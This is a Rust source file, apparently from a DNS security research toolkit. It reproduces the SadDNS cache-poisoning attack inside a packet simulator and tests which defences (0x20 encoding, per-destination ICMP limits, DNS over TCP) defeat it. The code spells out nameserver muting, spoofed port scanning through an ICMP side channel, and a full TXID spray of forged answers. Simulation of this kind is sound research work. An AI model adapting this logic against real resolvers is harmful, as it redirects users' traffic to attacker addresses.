//! SadDNS — cache poisoning via the ICMP global rate-limit side channel
//! (Section 3.2, after Man et al. CCS 2020).
//!
//! The attack has four moving parts, all reproduced here against the packet
//! simulator:
//!
//! 1. **mute the nameserver** — a burst of spoofed queries (source address =
//!    the victim resolver) exhausts the nameserver's response-rate-limit
//!    budget, so the genuine answer is delayed past the resolver's timeout
//!    and the attacker has a long race window;
//! 2. **trigger** the target query so the resolver opens an ephemeral port;
//! 3. **scan for that port** in batches of 50 UDP probes spoofed from the
//!    nameserver's address: if all 50 probed ports are closed the resolver's
//!    global ICMP budget (50/s) is exhausted and the attacker's own
//!    verification probe goes unanswered; if one was open, a token is left
//!    over and the attacker receives a port-unreachable — a 1-bit oracle per
//!    batch, refined by divide and conquer;
//! 4. **brute-force the TXID** — with the port known, spray spoofed responses
//!    for all 2¹⁶ transaction IDs.

use crate::env::{QueryTrigger, VictimEnv};
use crate::outcome::{AttackReport, FailureReason, PoisonMethod};
use dns::prelude::*;
use netsim::prelude::*;
use std::net::Ipv4Addr;

/// Probes per scan batch — Linux's default **global** ICMP error budget of
/// 50 tokens per second (Section 3.2). One batch of spoofed probes drains
/// the budget exactly, which is what makes the verification probe a 1-bit
/// oracle. Shared with the vulnerability scanner's ICMP global-limit probe
/// (`xlayer-core::vulnscan`).
pub const ICMP_PROBE_BATCH: u16 = 50;

/// Base of a port window assumed **closed** on the victim resolver.
/// Resolvers in this workspace draw ephemeral ports from ranges well above
/// it, so probes aimed here always burn an ICMP token without hitting an
/// open socket — used by the scanner's 50-probe window and by tests needing
/// a guaranteed-closed batch.
pub const CLOSED_PORT_PROBE_BASE: u16 = 10_000;

/// Configuration for a SadDNS attack run.
#[derive(Debug, Clone)]
pub struct SadDnsConfig {
    /// Address to plant for the target name.
    pub malicious_addr: Ipv4Addr,
    /// The name to poison.
    pub target_name: DomainName,
    /// Query type to trigger.
    pub qtype: RecordType,
    /// How the query is triggered.
    pub trigger: QueryTrigger,
    /// Port range the attacker scans (inclusive). The real attack scans the
    /// full ephemeral range over many iterations; experiments narrow it and
    /// scale the reported numbers (see `xlayer-core::analysis`).
    pub scan_range: (u16, u16),
    /// Probes per batch — the ICMP global limit (50 on Linux).
    pub batch_size: u16,
    /// Spoofed queries used to mute the nameserver per iteration.
    pub mute_queries: u32,
    /// Pause between probe batches so the ICMP token bucket refills.
    pub batch_interval: Duration,
    /// Maximum trigger/scan iterations before giving up.
    pub max_iterations: u32,
    /// Whether to spray the full 2^16 TXID space once the port is found.
    pub full_txid_sweep: bool,
}

impl SadDnsConfig {
    /// Default configuration targeting `www.vict.im`.
    pub fn new(malicious_addr: Ipv4Addr) -> Self {
        SadDnsConfig {
            malicious_addr,
            target_name: "www.vict.im".parse().expect("valid name"),
            qtype: RecordType::A,
            trigger: QueryTrigger::OpenResolver,
            scan_range: (32768, 60999),
            batch_size: ICMP_PROBE_BATCH,
            mute_queries: 2000,
            batch_interval: Duration::from_millis(1100),
            max_iterations: 3,
            full_txid_sweep: true,
        }
    }
}

/// The SadDNS attack driver.
#[derive(Debug, Clone)]
pub struct SadDnsAttack {
    /// Attack configuration.
    pub config: SadDnsConfig,
}

impl SadDnsAttack {
    /// Creates a driver.
    pub fn new(config: SadDnsConfig) -> Self {
        SadDnsAttack { config }
    }

    /// Probes a set of candidate ports (padded to `batch_size` with ports
    /// assumed closed) and returns whether the set contains an open port.
    fn probe_set(&self, sim: &mut Simulator, env: &VictimEnv, ports: &[u16]) -> bool {
        let cfg = &self.config;
        let t0 = sim.now();
        let mut sent = 0u16;
        for &port in ports.iter().take(cfg.batch_size as usize) {
            let probe = UdpDatagram::new(env.nameserver_addr, env.resolver_addr, 53, port, vec![0u8; 8])
                .into_packet(1000 + sent, 64);
            sim.inject(env.attacker, probe);
            sent += 1;
        }
        // Pad with probes to ports that are (almost certainly) closed so the
        // batch always carries exactly `batch_size` spoofed probes.
        let mut pad_port = 2;
        while sent < cfg.batch_size {
            let probe = UdpDatagram::new(env.nameserver_addr, env.resolver_addr, 53, pad_port, vec![0u8; 8])
                .into_packet(2000 + sent, 64);
            sim.inject(env.attacker, probe);
            pad_port += 1;
            sent += 1;
        }
        // Verification probe from the attacker's own address to a closed port.
        let verify =
            UdpDatagram::new(env.attacker_addr, env.resolver_addr, 4444, 7, vec![0u8; 8]).into_packet(3000, 64);
        sim.inject(env.attacker, verify);
        sim.run_for(Duration::from_millis(50));
        let open_somewhere = env.attacker(sim).port_unreachable_since(t0);
        // Let the ICMP bucket refill before the next batch.
        sim.run_for(cfg.batch_interval);
        open_somewhere
    }

    /// Locates the open ephemeral port via batched probing plus divide and
    /// conquer. Returns the port if found before `deadline`.
    fn scan_for_port(
        &self,
        sim: &mut Simulator,
        env: &VictimEnv,
        deadline: SimTime,
        report: &mut AttackReport,
    ) -> Option<u16> {
        let cfg = &self.config;
        // Every probe_set call sends exactly batch_size spoofed probes plus
        // one verification probe, counted here (the oracle test calls
        // probe_set directly and is not part of an attack's accounting).
        let probes_per_set = u64::from(cfg.batch_size) + 1;
        let (lo, hi) = cfg.scan_range;
        let mut batch_start = lo as u32;
        while batch_start <= hi as u32 && sim.now() < deadline {
            let batch_end = (batch_start + cfg.batch_size as u32 - 1).min(hi as u32);
            let ports: Vec<u16> = (batch_start..=batch_end).map(|p| p as u16).collect();
            report.probes_sent += probes_per_set;
            if self.probe_set(sim, env, &ports) {
                report.windows_hit += 1;
                report.notes.push(format!("open port detected in [{batch_start}, {batch_end}]"));
                // Divide and conquer inside the batch.
                let mut candidates = ports;
                while candidates.len() > 1 && sim.now() < deadline {
                    let mid = candidates.len() / 2;
                    let (left, right) = candidates.split_at(mid);
                    report.probes_sent += probes_per_set;
                    if self.probe_set(sim, env, left) {
                        candidates = left.to_vec();
                    } else {
                        candidates = right.to_vec();
                    }
                }
                if candidates.len() == 1 {
                    return Some(candidates[0]);
                }
                return None;
            }
            batch_start = batch_end + 1;
        }
        None
    }

    /// Mutes the nameserver by exhausting its response-rate-limit budget with
    /// spoofed queries that appear to come from the victim resolver.
    fn mute_nameserver(&self, sim: &mut Simulator, env: &VictimEnv) {
        let cfg = &self.config;
        for i in 0..cfg.mute_queries {
            let name = cfg.target_name.prepend(&format!("mute{i}")).unwrap_or_else(|_| cfg.target_name.clone());
            let q = Message::query(i as u16, name, RecordType::A);
            let pkt = UdpDatagram::new(env.resolver_addr, env.nameserver_addr, 5300, 53, q.encode())
                .into_packet(i as u16, 64);
            sim.inject(env.attacker, pkt);
        }
        sim.run_for(Duration::from_millis(30));
    }

    /// Sprays spoofed responses over the TXID space at the identified port.
    /// Returns the spray size (number of forged responses sent).
    fn spray_txids(&self, sim: &mut Simulator, env: &VictimEnv, port: u16) -> u64 {
        let cfg = &self.config;
        let space: u32 = if cfg.full_txid_sweep { 1 << 16 } else { 4096 };
        // The 2^16 spoofed responses differ only in the DNS TXID (wire bytes
        // 0-1) and the IP ID, so encode the message once and patch the TXID
        // into a pooled copy per packet instead of re-encoding every time.
        let mut template = Message::query(0, cfg.target_name.clone(), cfg.qtype);
        template.header.is_response = true;
        template.header.authoritative = true;
        template.answers.push(ResourceRecord::new(cfg.target_name.clone(), 3600, RData::A(cfg.malicious_addr)));
        let wire = template.encode();
        for txid in 0..space {
            let mut payload = netsim::pool::take(wire.len());
            payload.extend_from_slice(&wire);
            payload[..2].copy_from_slice(&(txid as u16).to_be_bytes());
            let pkt = UdpDatagram::new(env.nameserver_addr, env.resolver_addr, 53, port, payload)
                .into_packet(txid as u16, 64);
            sim.inject(env.attacker, pkt);
        }
        sim.run_for(Duration::from_millis(200));
        u64::from(space)
    }

    /// Runs the attack. When the simulator has a flight recorder installed,
    /// the mute, scan and spray phases are recorded into it as spans at
    /// sim-time resolution beside the packets; without one, each phase
    /// boundary costs one `Option` check.
    pub fn run(&self, sim: &mut Simulator, env: &VictimEnv) -> AttackReport {
        let cfg = &self.config;
        let mut report = AttackReport::new(PoisonMethod::SadDns, &cfg.target_name, cfg.malicious_addr);
        let start = sim.now();
        let traffic_before = sim.stats(env.attacker).clone();

        // Preconditions: the resolver must race over UDP at all (a
        // DNS-over-TCP resolver opens no ephemeral UDP port, so the ICMP
        // side channel has nothing to find), its OS must use a *global*
        // ICMP error rate limit, and the nameserver must be mutable via
        // rate limiting.
        {
            let resolver = env.resolver(sim);
            if resolver.config().transport_policy == UpstreamTransport::TcpOnly {
                return report.fail(FailureReason::PreconditionNotMet(
                    "resolver performs upstream queries over TCP; no UDP ephemeral port to discover".into(),
                ));
            }
            if !resolver.stack().icmp_limiter().is_globally_limited() {
                return report.fail(FailureReason::PreconditionNotMet(
                    "resolver does not use a global ICMP rate limit (side channel closed)".into(),
                ));
            }
            if resolver.config().use_0x20 {
                report.notes.push("resolver uses 0x20: TXID sweep alone cannot match the casing".into());
            }
        }
        if !env.nameserver(sim).has_rrl() {
            return report.fail(FailureReason::PreconditionNotMet(
                "nameserver has no response rate limiting; it cannot be muted".into(),
            ));
        }

        let resolver_timeout = env.resolver(sim).config().query_timeout;
        let retries = env.resolver(sim).config().max_retries;

        for iteration in 0..cfg.max_iterations {
            report.iterations += 1;
            // 1. Mute the nameserver.
            netsim::span!(sim, "saddns.mute", "iteration {iteration}: {} spoofed queries", cfg.mute_queries);
            self.mute_nameserver(sim, env);
            sim.exit_span("saddns.mute");
            // 2. Trigger the query.
            env.trigger_query(sim, cfg.trigger, &cfg.target_name, cfg.qtype, 0x4000 + iteration as u16);
            report.queries_triggered += 1;
            sim.run_for(Duration::from_millis(30));
            // The window closes when the resolver gives up (all retries).
            let window_end = sim.now() + resolver_timeout.saturating_mul(u64::from(retries) + 1);
            // Muting bounced a few rate-limited responses off closed resolver
            // ports, draining the global ICMP bucket the oracle depends on.
            // Pace like the real attack: let the budget refill before probing.
            sim.run_for(cfg.batch_interval);

            // 3. Scan for the open ephemeral port.
            netsim::span!(
                sim,
                "saddns.scan",
                "iteration {iteration}: range [{}, {}]",
                cfg.scan_range.0,
                cfg.scan_range.1
            );
            let found = self.scan_for_port(sim, env, window_end, &mut report);
            sim.exit_span("saddns.scan");
            let Some(port) = found else {
                report.notes.push(format!("iteration {iteration}: port not found within the window"));
                // Let the current query expire before the next iteration.
                sim.run_for(resolver_timeout.saturating_mul(u64::from(retries) + 1));
                continue;
            };
            report.notes.push(format!("iteration {iteration}: isolated open port {port}"));

            // 4. TXID brute force.
            if sim.now() >= window_end {
                report.notes.push("window closed before the TXID sweep".into());
                continue;
            }
            netsim::span!(sim, "saddns.spray", "iteration {iteration}: port {port}");
            report.spray_responses += self.spray_txids(sim, env, port);
            sim.exit_span("saddns.spray");
            sim.run_for(Duration::from_millis(100));

            if env.poisoned(sim, &cfg.target_name, cfg.malicious_addr) {
                report.success = true;
                break;
            }
        }

        report.duration = sim.now().duration_since(start);
        report.record_traffic(&traffic_before, sim.stats(env.attacker));
        let truncated = env.resolver(sim).stats.truncated_responses;
        if truncated > 0 {
            report.notes.push(format!("resolver received {truncated} truncated (TC=1) upstream responses"));
        }
        if !report.success && report.failure.is_none() {
            let resolver = env.resolver(sim);
            report.failure = Some(if resolver.stats.rejected_question > 0 {
                FailureReason::RejectedByResolver("0x20 casing not matched".into())
            } else {
                FailureReason::BudgetExhausted
            });
        }
        report
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::env::{addrs, VictimEnvConfig};

    /// An environment tuned so the full SadDNS machinery runs in a few
    /// simulated minutes: the resolver draws ports from a 256-port range
    /// (documented scaling knob), its timeout is generous, and the nameserver
    /// rate-limits responses.
    fn saddns_env(zone_signed: bool, use_0x20: bool, global_icmp: bool) -> (Simulator, VictimEnv) {
        let mut cfg = VictimEnvConfig {
            zone_security: if zone_signed {
                crate::env::ZoneSecurity::signed_nsec()
            } else {
                crate::env::ZoneSecurity::Unsigned
            },
            resolver: ResolverConfig::new(addrs::RESOLVER).with_delegation(
                "vict.im",
                vec![addrs::NAMESERVER],
                zone_signed,
            ),
            nameserver: NameserverConfig::new(addrs::NAMESERVER).with_rrl(10),
            ..Default::default()
        };
        cfg.resolver.port_range = (40000, 40255);
        cfg.resolver.query_timeout = Duration::from_secs(30);
        cfg.resolver.max_retries = 0;
        if use_0x20 {
            cfg.resolver.use_0x20 = true;
        }
        if !global_icmp {
            cfg.resolver.icmp_rate_limit = IcmpRateLimitPolicy::PerDestination { capacity: 50, per_second: 50.0 };
        }
        cfg.build()
    }

    fn attack_cfg() -> SadDnsConfig {
        let mut cfg = SadDnsConfig::new(addrs::ATTACKER);
        cfg.scan_range = (40000, 40255);
        cfg.max_iterations = 2;
        cfg
    }

    #[test]
    fn full_attack_poisons_vulnerable_resolver() {
        let (mut sim, env) = saddns_env(false, false, true);
        let report = SadDnsAttack::new(attack_cfg()).run(&mut sim, &env);
        assert!(report.success, "SadDNS failed: {:?}", report.notes);
        assert!(env.poisoned(&sim, &"www.vict.im".parse().unwrap(), addrs::ATTACKER));
        // The attack is traffic-heavy: tens of thousands of packets (the
        // paper reports ~1M for the full 64K-port space).
        assert!(report.attacker_packets > 10_000, "only {} packets", report.attacker_packets);
        assert!(report.duration > Duration::from_secs(1));
    }

    #[test]
    fn recorded_run_counts_probes_and_spans_phases() {
        let (mut sim, env) = saddns_env(false, false, true);
        // Room for the whole run: ~68K packet events plus the phase spans.
        sim.install_recorder(FlightRecorder::new(1 << 17));
        let report = SadDnsAttack::new(attack_cfg()).run(&mut sim, &env);
        assert!(report.success, "SadDNS failed: {:?}", report.notes);
        assert!(report.probes_sent > 0, "scan probes are accounted");
        assert_eq!(report.probes_sent % (u64::from(ICMP_PROBE_BATCH) + 1), 0, "probes come in batch+verify sets");
        assert_eq!(report.windows_hit, 1, "one scan window contained the open port");
        assert_eq!(report.spray_responses, 1 << 16, "full TXID sweep sprayed the whole space");
        let rec = sim.recorder().expect("installed");
        assert_eq!(rec.dropped(), 0);
        let names: Vec<&str> = rec.spans().map(|e| e.name).collect();
        assert!(names.contains(&"saddns.mute"));
        assert!(names.contains(&"saddns.scan"));
        assert!(names.contains(&"saddns.spray"));
        assert!(rec.packets().count() as u64 > report.attacker_packets, "packets share the ring with the spans");
        let dump = rec.dump_last(usize::MAX, &sim);
        assert!(dump.contains("> saddns.scan"));
        assert!(dump.contains("< saddns.spray"));
    }

    #[test]
    fn recording_does_not_perturb_the_attack() {
        let (mut sim_a, env_a) = saddns_env(false, false, true);
        let plain = SadDnsAttack::new(attack_cfg()).run(&mut sim_a, &env_a);
        let (mut sim_b, env_b) = saddns_env(false, false, true);
        sim_b.install_recorder(FlightRecorder::default());
        let recorded = SadDnsAttack::new(attack_cfg()).run(&mut sim_b, &env_b);
        assert_eq!(plain, recorded, "recording must not perturb the attack report");
        assert_eq!(sim_a.counters(), sim_b.counters(), "recording must not perturb the engine");
        assert!(sim_b.recorder().is_some_and(|r| r.dropped() > 0), "the run overflowed the ring");
    }

    #[test]
    fn dns_over_tcp_resolver_has_no_port_to_scan() {
        let mut cfg =
            VictimEnvConfig { nameserver: NameserverConfig::new(addrs::NAMESERVER).with_rrl(10), ..Default::default() };
        cfg.resolver = cfg.resolver.with_transport(UpstreamTransport::TcpOnly);
        let (mut sim, env) = cfg.build();
        let report = SadDnsAttack::new(attack_cfg()).run(&mut sim, &env);
        assert!(!report.success);
        assert!(matches!(report.failure, Some(FailureReason::PreconditionNotMet(_))));
        assert_eq!(report.attacker_packets, 0, "the attack fails before sending a single probe");
    }

    #[test]
    fn per_destination_icmp_limit_closes_the_side_channel() {
        let (mut sim, env) = saddns_env(false, false, false);
        let report = SadDnsAttack::new(attack_cfg()).run(&mut sim, &env);
        assert!(!report.success);
        assert!(matches!(report.failure, Some(FailureReason::PreconditionNotMet(_))));
    }

    #[test]
    fn nameserver_without_rrl_cannot_be_muted() {
        let mut cfg = VictimEnvConfig::default();
        cfg.resolver.port_range = (40000, 40255);
        let (mut sim, env) = cfg.build();
        let report = SadDnsAttack::new(attack_cfg()).run(&mut sim, &env);
        assert!(!report.success);
        assert!(matches!(report.failure, Some(FailureReason::PreconditionNotMet(_))));
    }

    #[test]
    fn x20_defeats_the_txid_sweep() {
        let (mut sim, env) = saddns_env(false, true, true);
        let report = SadDnsAttack::new(attack_cfg()).run(&mut sim, &env);
        assert!(!report.success, "0x20 should defeat SadDNS");
        assert!(env.resolver(&sim).stats.rejected_question > 0);
    }

    #[test]
    fn probe_oracle_distinguishes_open_and_closed_batches() {
        let (mut sim, env) = saddns_env(false, false, true);
        let attack = SadDnsAttack::new(attack_cfg());
        // Mute + trigger so a port in 40000..40255 is open.
        attack.mute_nameserver(&mut sim, &env);
        env.trigger_query(&mut sim, QueryTrigger::OpenResolver, &"www.vict.im".parse().unwrap(), RecordType::A, 1);
        sim.run_for(Duration::from_millis(30));
        // Let the resolver's global ICMP bucket refill: muting the nameserver
        // made it bounce a few responses off closed resolver ports, which
        // consumed tokens.
        sim.run_for(Duration::from_millis(1200));
        let open_ports = env.resolver(&sim).outstanding_ports();
        assert_eq!(open_ports.len(), 1);
        let open_port = open_ports[0];
        // A batch containing the open port reports true.
        let containing: Vec<u16> = (open_port.saturating_sub(10)..open_port.saturating_sub(10) + 50).collect();
        assert!(attack.probe_set(&mut sim, &env, &containing));
        // A batch of closed ports reports false.
        let closed: Vec<u16> = (CLOSED_PORT_PROBE_BASE..CLOSED_PORT_PROBE_BASE + ICMP_PROBE_BATCH).collect();
        assert!(!attack.probe_set(&mut sim, &env, &closed));
    }
}
